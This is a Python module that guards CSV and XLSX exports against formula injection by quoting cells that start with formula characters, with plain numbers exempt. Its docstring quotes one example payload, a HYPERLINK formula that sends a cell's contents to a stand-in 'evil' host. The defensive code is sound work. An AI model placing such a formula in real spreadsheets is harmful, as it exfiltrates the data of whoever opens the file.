"""Cells for CSV and XLSX exports that a spreadsheet program shows as text, never runs.

A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs
skip before reading the rest as a formula) is a formula to Excel, LibreOffice and Google Sheets:
a customer name such as `=HYPERLINK("http://evil/?"&A1)` would run on the supervisor's machine
(OWASP "CSV injection"). Every export writes its cells through `safe_cell`, which puts a single
quote in front of such text, as OWASP recommends. Numbers stay numbers, and so does text that
is a plain number (`-12`, `+3.5`): those are values, not formulas."""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

Cell = str | int | float | None


def safe_cell(value: Cell) -> Cell:
    """The value as a spreadsheet should hold it: text that could start a formula gets a
    leading single quote; anything else is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Cell]) -> list[Cell]:
    return [safe_cell(value) for value in values]
